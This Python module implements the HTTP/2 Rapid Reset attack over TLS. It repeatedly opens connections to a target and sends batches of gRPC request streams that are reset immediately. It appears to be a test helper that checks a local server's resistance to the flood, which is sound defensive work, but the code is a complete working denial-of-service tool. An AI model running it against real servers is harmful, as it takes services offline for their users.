"""Rapid reset over TLS: streams that are opened and reset at once, on one connection after the other."""

import contextlib
import socket
import ssl
import threading

import hpack
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

from http2 import PREFACE

# Streams in one write.
BATCH = 50
CANCEL = 8


class Attack:
    def __init__(self, target, ca):
        host, port = target.split(":")
        self.address = host, int(port)
        self.context = ssl.create_default_context(cafile=ca)
        self.context.set_alpn_protocols(["h2"])
        self.over = threading.Event()
        self.streams = self.connections = 0

    def __enter__(self):
        self.thread = threading.Thread(target=self.run)
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.over.set()
        self.thread.join()
        assert self.streams > 1000, f"the attack has reset {self.streams} streams only"

    def run(self):
        while not self.over.is_set():
            # The target may close the connection whenever it likes.
            with contextlib.suppress(OSError):
                self.attack()

    def attack(self):
        with socket.create_connection(self.address, 5) as plain:
            with self.context.wrap_socket(plain, server_hostname="127.0.0.1") as connection:
                self.connections += 1
                connection.sendall(PREFACE + SettingsFrame(0).serialize())
                encoder, stream = hpack.Encoder(), 1
                headers = {":method": "POST", ":scheme": "https", ":path": "/calc.Calculator/Add", ":authority": "a"}
                headers |= {"te": "trailers", "content-type": "application/grpc"}
                while not self.over.is_set() and stream < 2**30:
                    frames = bytearray()
                    for _ in range(BATCH):
                        frames += HeadersFrame(stream, encoder.encode(headers), flags=["END_HEADERS"]).serialize()
                        frames += RstStreamFrame(stream, CANCEL).serialize()
                        stream += 2
                    connection.sendall(frames)
                    self.streams += BATCH
